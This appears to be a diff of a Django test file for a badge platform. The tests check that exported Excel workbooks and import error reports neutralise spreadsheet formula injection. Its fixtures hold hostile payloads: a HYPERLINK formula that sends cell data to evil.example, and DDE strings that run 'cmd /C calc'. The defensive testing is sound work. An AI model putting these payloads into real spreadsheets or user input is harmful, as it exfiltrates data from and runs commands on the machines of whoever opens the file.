@@ -6,14 +6,17 @@ import io
 
 import pytest
 from django.urls import reverse
-from django.utils import timezone
 from openpyxl import load_workbook
 
-from badges.models import Assertion, BadgeClassVersion, PixImport
-from cotraining.constants import Role
-from cotraining.services import grant_role
-from tests.badges.conftest import make_badge_class
-from tests.factories import EstablishmentFactory, UserFactory, academie
+from badges.models import PixImport
+from tests.factories import (
+    AssertionFactory,
+    EstablishmentFactory,
+    IndicatorReaderFactory,
+    UserFactory,
+    academie,
+    make_badge_class,
+)
 
 BADGE = '=HYPERLINK("https://evil.example/?d="&A1;"Voir")'
 ISSUER = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -24,18 +27,12 @@ def reader_client(client, issuer):
     issuer.name = ISSUER
     issuer.save()
     badge_class = make_badge_class(issuer, name=BADGE)
-    version = BadgeClassVersion.objects.create(badge_class=badge_class, number=1, document={})
     school = EstablishmentFactory()  # in Poitiers
     holder = UserFactory(establishment=school)
     # Five people at least, or the académie's indicators are not served at all (secrecy).
     UserFactory.create_batch(5, establishment=school)
-    Assertion.objects.create(
-        badge_class=badge_class, version=version, recipient=holder,
-        recipient_email=holder.email, source=f"manual:{holder.pk}", issued_on=timezone.now(),
-    )  # fmt: skip
-    reader = UserFactory()
-    grant_role(user=reader, role=Role.INDICATOR_READER, academie=academie("13"))
-    client.force_login(reader)
+    AssertionFactory(badge_class=badge_class, recipient=holder, source=f"manual:{holder.pk}")
+    client.force_login(IndicatorReaderFactory(academie=academie("13")))
     return client
 
 
@@ -59,9 +56,7 @@ def test_indicator_workbook_has_no_formula_cell(reader_client):
     assert isinstance(row[3].value, int)  # numbers stay numbers
 
 
-def test_pix_import_report_writes_errors_as_text(db, client):
-    coordinator = UserFactory()
-    grant_role(user=coordinator, role=Role.COORDINATOR, academie=academie("13"))
+def test_pix_import_report_writes_errors_as_text(client, coordinator):
     pix_import = PixImport.objects.create(
         filename="pix.csv", status=PixImport.Status.REJECTED, user=coordinator, error_count=2,
         errors=[[2, "=1+2"], [3, "-2+3+cmd|' /C calc'!A0"]],
